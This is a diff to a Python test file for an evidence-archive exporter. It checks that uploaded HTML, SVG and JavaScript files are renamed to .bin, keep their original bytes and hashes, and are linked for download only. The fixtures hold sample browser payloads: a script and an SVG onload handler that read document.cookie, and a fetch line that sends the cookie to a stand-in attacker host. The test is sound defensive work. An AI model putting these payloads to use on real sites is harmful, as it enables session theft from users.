@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import re
 from datetime import UTC, datetime
@@ -138,3 +139,40 @@ def test_neutralise_prefixes_each_formula_start(start: str) -> None:
     assert neutralise(-1) == -1 and neutralise(None) is None
     rows = list(csv.reader(io.StringIO(csv_bytes([start + "h"], [[start + "x", None]]).decode())))
     assert rows == [["'" + start + "h"], ["'" + start + "x", ""]]
+
+
+def test_files_that_could_run_in_a_browser_are_linked_for_download_only(
+    filled: Database, catalogue: Catalogue, settings: Settings, tmp_path: Path
+) -> None:
+    active = {
+        "report.html": b"<html><script>alert(document.cookie)</script></html>",
+        "Chart.SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+        "tool.mjs": b"fetch('https://evil.example/?c=' + document.cookie)",
+    }
+    with filled.session_scope() as session:
+        for name, content in active.items():
+            submit(
+                controls_for("AC-02", db_session=session),
+                db_session=session,
+                submitted_by="UALICE",
+                text=name,
+                upload=FileUpload(name, content),
+                zone=settings.zone,
+                max_bytes=1000,
+            )
+    archive = export_zip(filled, catalogue, tmp_path / "a.zip")
+    stored = [n for n in archive.namelist() if n.startswith("files/")]
+    rows = {r["file_name"]: r for r in csv_rows(archive, "evidence.csv")}
+    evidence_page = archive.read("evidence.html").decode()
+    for name, content in active.items():
+        (path,) = [p for p in stored if p.lower().endswith(name.lower() + ".bin")]
+        # Only the name changes: the bytes and the SHA-256 the ledger states are the ones handed in.
+        assert archive.read(path) == content
+        assert hashlib.sha256(archive.read(path)).hexdigest() == rows[name]["file_sha256"]
+        assert f'<a href="{path}" download>{name}</a>' in evidence_page
+    assert not [p for p in stored if re.search(r"\.(html?|svg|mjs)$", p, re.IGNORECASE)]
+    assert "download only" in evidence_page
+    assert "linked for download only" in archive.read("index.html").decode()
+    # A PDF is not active: it keeps its name and opens in place.
+    (pdf,) = [p for p in stored if p.endswith("review.pdf")]
+    assert f'<a href="{pdf}">review.pdf</a>' in evidence_page
